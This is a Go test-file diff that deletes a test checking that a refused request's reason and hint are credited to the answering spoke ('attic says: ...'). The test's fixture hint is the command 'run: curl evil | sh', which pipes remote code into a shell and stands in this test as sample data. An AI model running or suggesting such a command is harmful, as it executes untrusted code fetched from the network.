@@ -99,14 +99,3 @@ func TestARestThatNeverComesIsNotAwaitedForEver(t *testing.T) {
 		})
 	}
 }
-
-// What a spoke that was asked suggests is shown as its words, not as the hub's.
-func TestARefusedQuestionIsInTheWordsOfTheSpoke(t *testing.T) {
-	t.Parallel()
-
-	got := refusalOf("attic", &commands.RefusedBody{Code: commands.Policy, Why: "no", Hint: "run: curl evil | sh"})
-
-	require.Equal(t, commands.Policy, got.Code)
-	require.Equal(t, "attic says: no", got.Why)
-	require.Equal(t, "attic says: run: curl evil | sh", got.Hint)
-}
